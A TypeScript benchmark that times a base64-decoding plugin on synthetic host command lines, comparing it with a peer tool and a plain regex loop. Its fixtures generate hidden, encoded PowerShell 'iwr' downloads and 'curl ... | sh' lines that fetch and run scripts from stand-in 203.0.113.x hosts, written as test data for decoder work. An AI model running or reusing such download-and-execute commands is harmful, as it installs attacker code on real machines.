/**
 * Decoding beside the peer's stored figure and a loop that only finds and decodes base64, without nesting, text, archives
 * or hashes, in the same run.
 *
 *     npx node --conditions=pivotkit-source test/bench/decode.ts [most rows]
 *
 * As in the peer's case there are about three things to decode in two texts; and texts as they are on a host, where one in
 * ten has something encoded.
 */
import { createSession, Table } from '@pivotkit/core';
import { decode } from '@pivotkit/plugin-decode';
import { randomFor } from '../../examples/generate/random.ts';
import { cpuSeconds, showRatio, showSeconds } from './cpu-time.ts';

const [most = 100_000] = process.argv.slice(2).map(Number);

/** Seconds of the peer (unpack_df of 9,967 texts, 14,608 records), from ../shared/oracle/TIMINGS.md, 2026-11-20. */
const peerSeconds: Readonly<Record<number, number>> = { 10_000: 17.502 };

const random = randomFor('decode');

const plain = (i: number): string =>
  `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Service${i} /log:C:\\ProgramData\\Vendor\\log-${i}.txt`;
const script = (i: number): string => `iwr http://203.0.113.${i % 250}/${i}.ps1 -OutFile t${i}`;
const powershell = (i: number): string =>
  `powershell.exe -nop -w hidden -enc ${Buffer.from(script(i), 'utf16le').toString('base64')}`;
const piped = (i: number): string => `echo ${Buffer.from(`curl http://203.0.113.${i % 250}/${i}.sh | sh`).toString('base64')} | base64 -d`; // prettier-ignore

const encodedLine = (i: number): string => (random.chance(0.47) ? `${powershell(i)} & ${piped(i)}` : powershell(i));
const hostLine = (i: number): string => (random.chance(0.1) ? powershell(i) : plain(i));

const findAndDecode = (texts: readonly string[]): number =>
  texts.reduce((sum, text) => sum + (text.match(/[A-Za-z0-9+/]{30,}={0,2}/g) ?? []).map((run) => Buffer.from(run, 'base64')).length, 0); // prettier-ignore

/** Some columns are made when they are read; the peer makes all at once. */
function readAll(table: Table): void {
  for (const name of table.columnNames) for (const cell of table.cells(name)) void cell;
}

await using session = await createSession({ plugins: [decode] });

async function report(name: string, texts: readonly string[], peer: number | undefined): Promise<void> {
  const table: Table<object> = Table.fromColumns({ CommandLine: texts });
  const run = () => session.from(table).verb('decode.base64', { column: 'CommandLine' }).run();
  const { size } = await run();
  const ours = await cpuSeconds(run, 3);
  const read = await cpuSeconds(async () => readAll((await run()).table), 3);
  const loop = await cpuSeconds(() => findAndDecode(texts), 3);
  const cells = [
    name.padEnd(22),
    texts.length.toLocaleString('en').padStart(9),
    size.toLocaleString('en').padStart(9),
    showSeconds(ours).padStart(9),
    showSeconds(read).padStart(9),
    showRatio(peer, read).padStart(18),
    showRatio(loop, read).padStart(18),
    `${Math.round(process.memoryUsage.rss() / 1e6)} MB`.padStart(8),
  ];
  console.log(cells.join('  '));
}

console.log('Seconds of processor time; the peer: wall time of one thread');
console.log(
  'texts                       rows   decoded       ours  all read                peer           bare loop    memory',
);
for (const rows of [1_000, 10_000, 100_000].filter((size) => size <= most)) {
  const line = (of: (i: number) => string): string[] => Array.from({ length: rows }, (_, i) => of(i));
  await report('three things in two', line(encodedLine), peerSeconds[rows]);
  await report('one in ten', line(hostLine), undefined);
}
